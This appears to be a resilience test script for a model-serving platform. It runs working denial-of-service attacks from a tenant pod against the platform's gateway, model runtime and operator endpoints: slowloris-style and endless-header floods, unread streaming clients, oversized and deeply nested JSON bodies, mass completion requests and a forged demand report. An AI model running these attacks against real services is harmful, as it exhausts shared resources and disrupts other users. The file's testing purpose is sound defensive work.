"""Attacks from a pod of a tenant, for some seconds: ``python3 attacks.py NAME SECONDS``; no library needed.

The gateway, the model's own Service and the operator's port are where the release's tests put them. What each
attack gets does not matter here: the load of the honest clients beside it is what counts.
"""

import json
import socket
import sys
import threading
import time

GATEWAY = ("wisp-gateway.wisp-system.svc", 80)
RUNTIME = ("honest.wisp-honest.svc", 8000)
OPERATOR = ("wisp-operator.wisp-system.svc", 8081)
MODEL = "wisp-honest/honest"
CHAT = "/v1/chat/completions"
MIB = 1 << 20


def post(path, body):
    lines = [
        f"POST {path} HTTP/1.1",
        "host: x",
        "content-type: application/json",
        f"content-length: {len(body)}",
    ]
    return "\r\n".join([*lines, "", ""]).encode() + body


def chat(**fields):
    message = {"role": "user", "content": "attack"}
    return json.dumps({"model": MODEL, "messages": [message], **fields}).encode()


def connect(where):
    return socket.create_connection(where, timeout=3)


def repeat(attack, until, threads=4):
    """Call ``attack`` again and again in some threads; connections that end are part of it."""

    def run():
        while time.monotonic() < until:
            try:
                attack(until)
            except OSError:
                time.sleep(0.05)

    workers = [threading.Thread(target=run, daemon=True) for _ in range(threads)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(max(0.0, until - time.monotonic()) + 5)


def flood(where, start, chunk):
    def attack(until):
        with connect(where) as connection:
            connection.sendall(start)
            sent = 0
            while time.monotonic() < until and sent < 64 * MIB:
                sent += connection.send(chunk)
                time.sleep(0.001)

    return attack


def exchange(where, request):
    def attack(_):
        with connect(where) as connection:
            connection.sendall(request)
            connection.recv(65536)
            time.sleep(0.1)

    return attack


def unread(where):
    def attack(until):
        clients = []
        for _ in range(20):
            client = socket.socket()
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            client.settimeout(3)
            client.connect(where)
            client.sendall(post(CHAT, chat(stream=True, max_tokens=400, ignore_eos=True)))
            clients.append(client)
        time.sleep(max(0.0, until - time.monotonic()))

    return attack


def slow(where):
    def attack(until):
        clients = [connect(where) for _ in range(100)]
        while time.monotonic() < until:
            for client in clients:
                client.send(b"G")
            time.sleep(1)

    return attack


ELEMENTS = b'{"model":"' + MODEL.encode() + b'","messages":[' + b'{"":{}},' * (MIB // 8) + b"0]}"
DEMAND = {"waiting": 100000, "running": 0, "arrivals": 1, "idleSeconds": 0.0}
REPORT = json.dumps({"gateway": "evil", "models": {MODEL: DEMAND}}).encode()
ENDLESS = b"GET /livez HTTP/1.1\r\nhost: x\r\na: "
ATTACKS = {
    "heads without an end at the gateway": flood(GATEWAY, ENDLESS, b"x" * 65536),
    "heads without an end at the model's pod": flood(RUNTIME, ENDLESS, b"x" * 65536),
    "bodies of a million small elements": exchange(GATEWAY, post(CHAT, ELEMENTS)),
    "clients that do not read": unread(GATEWAY),
    "requests of 64 choices": exchange(GATEWAY, post(CHAT, chat(n=64, max_tokens=200, ignore_eos=True))),
    "requests without the gateway": exchange(RUNTIME, post(CHAT, chat(n=128, max_tokens=400))),
    "a byte a second": slow(GATEWAY),
    "demand that is none": exchange(OPERATOR, post("/demand", REPORT)),
    "depth at the operator": exchange(OPERATOR, post("/demand", b"[" * 100_000)),
    "requests that are refused": exchange(GATEWAY, post(CHAT, chat(n=10**6))),
}

if __name__ == "__main__":
    repeat(ATTACKS[sys.argv[1]], time.monotonic() + float(sys.argv[2]))
